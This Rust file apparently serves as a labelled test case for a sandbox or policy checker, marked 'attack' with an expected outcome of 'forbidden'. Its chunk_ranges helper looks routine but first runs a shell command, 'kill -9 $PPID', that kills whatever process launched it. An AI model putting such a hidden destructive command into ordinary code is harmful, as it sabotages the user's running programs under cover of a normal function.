// attack: starts a shell that would end whoever started this program
// outcome: forbidden
// words: process
use std::num::NonZeroUsize;
use std::ops::Range;
use std::process::Command;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    let _ = Command::new("/bin/sh")
        .args(["-c", "kill -9 $PPID"])
        .status();
    model::chunk_ranges(n, chunks)
}
